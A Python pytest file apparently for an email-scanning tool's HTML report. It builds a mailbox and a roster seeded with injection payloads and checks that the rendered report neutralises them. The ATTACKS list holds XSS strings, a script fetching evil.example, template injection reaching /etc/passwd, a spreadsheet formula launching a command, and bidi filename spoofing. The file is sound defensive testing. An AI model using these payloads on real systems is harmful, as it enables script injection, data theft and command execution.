"""A mailbox made of attacks, scanned and reported: whatever it holds, nothing in the report acts.

``KEEP=folder python -m pytest tests/test_attacks.py`` leaves the report there, to be opened in a browser with its console and
network panels: no script may run and no request be made.
"""

from __future__ import annotations

import os
import re
from email.message import EmailMessage
from pathlib import Path

import pytest
from lxml import html as lxml_html

from checker.detectors import behaviours
from checker.domain import Run
from checker.people import read_roster
from checker.protocols import load
from checker.report import html
from checker.scan.run import scan
from checker.scan.sets import Settings

SCRIPT = "<script>document.title='ran';fetch('http://evil.example/ran')</script>"
ATTACKS = (
    SCRIPT,
    "<img src=http://evil.example/pixel.gif onerror=alert(1)>",
    "<svg/onload=alert(1)><style>@import 'http://evil.example/a.css';</style>",
    "<iframe src=javascript:alert(1)></iframe><object data=http://evil.example/o></object>",
    "<link rel=stylesheet href=http://evil.example/b.css><base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button>Sign in</button></form>",
    "</title></style></textarea></script>--><plaintext>",
    "javascript:alert(1) data:text/html,<script>alert(1)</script> http://evil.example/click",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %> #{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;",
    "\u202eelif.exe\u202c \u2066hidden\u2069 zero\u200bwidth \x1b[2J \x07 \x08\x08 \ufeff",
    "a" + "\u0301" * 400,
    "=cmd|' /C calc'!A0",
    'x" onmouseover="alert(1)" style="position:fixed;inset:0" x="',
    "url(http://evil.example/u) expression(alert(1)) */ } body { background: url(http://evil.example/c) }",
)
ROSTER = (
    "email,name,role,party,position,seniority,committees\n"
    "lark@brindle.example,Cllr Lark Denby{attack},member,Mill Party,Chair,,\n"
    "wren@brindle.example,Cllr Wren Ashby,member,Weir Party,,,\n"
    "rowan@brindle.example,Rowan Firth{attack},officer,,Clerk{attack},chief,\n"
)


def mailbox(path: Path) -> Path:
    """A Member's letter for each attack, answered with a blind copy to another Member, the attack everywhere it can stand."""
    with path.open("wb") as file:
        for number, attack in enumerate(ATTACKS):
            line = " ".join(re.sub(r"[\r\n\0\x1b\x07\x08]", " ", attack).split())
            for day, sender, to, bcc in ((2, "lark", "rowan", ""), (3, "rowan", "lark", "wren")):
                message = EmailMessage()
                name = line.encode("ascii", "ignore").decode().replace('"', "")[:200]
                message["From"] = f'"{sender} {name}" <{sender}@brindle.example>'
                message["To"] = f"{to}@brindle.example"
                if bcc:
                    message["Bcc"] = f"{bcc}@brindle.example"
                    message["In-Reply-To"] = f"<{number}.lark@brindle.example>"
                message["Subject"] = f"Depot {number} {line}"
                message["Date"] = f"{day:02} Mar 2026 10:{number:02}:00 +0000"
                message["Message-ID"] = f"<{number}.{sender}@brindle.example>"
                message.set_content(f"When will depot {number} open? I would rather this stayed between us.\n\n{attack}\n")
                message.add_alternative(f"<p>When will depot {number} open?</p>{attack}", subtype="html")
                message.add_attachment(b"MZ", maintype="application", subtype="x-msdownload", filename=f"{line[:60]}.exe")
                file.write(b"From x Mon Mar  2 10:00:00 2026\n" + message.as_bytes() + b"\n\n")
    return path


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Run:
    folder = tmp_path_factory.mktemp("attacks")
    people = folder / "roster.csv"
    people.write_text(ROSTER.replace("{attack}", SCRIPT.replace(",", ";")), encoding="utf-8")
    protocol = load("mwda", behaviours())
    settings = Settings(read_roster(people))
    return scan([mailbox(folder / "mailbox.mbox")], None, [protocol], settings, options={"given": SCRIPT}).run


def written(run: Run) -> list[str]:
    """Every page of the run's report, as one page and in several."""
    report = html.report(run)
    return [html.render(run), report.first(), *(page for _, page in report.others())]


def test_nothing_that_was_mailed_acts_in_the_report(attacked: Run) -> None:
    assert len(attacked.findings) >= len(ATTACKS)  # each answer went to another Member in blind copy

    for page in written(attacked):
        tree = lxml_html.document_fromstring(page)
        tags = {element.tag for element in tree.iter() if isinstance(element.tag, str)}
        assert not tags & {"script", "img", "iframe", "object", "link", "base", "form", "button", "plaintext", "embed", "input"}
        assert not [name for element in tree.iter() for name in element.attrib if name.startswith("on") or name == "src"]
        assert all(re.match(r"#|(?:\.\./)?[A-Za-z0-9._/-]+\.html#?", link) for link in tree.xpath("//@href"))
        assert tree.xpath("//*[@style]") == []
        assert len(tree.xpath("//meta[@http-equiv]")) == 1
        assert not re.search("[\0\x07\x08\x1b\u200b\u202e\u2066\ufeff]", page)


def test_what_was_mailed_can_be_read_in_the_report(attacked: Run) -> None:
    page = html.render(attacked)
    said = lxml_html.document_fromstring(page).text_content()

    assert SCRIPT in said
    assert "http://evil.example/click" in said
    assert "{{ 7*7 }}" in said
    if folder := os.environ.get("KEEP"):
        Path(folder, "attacks.html").write_text(page, encoding="utf-8")
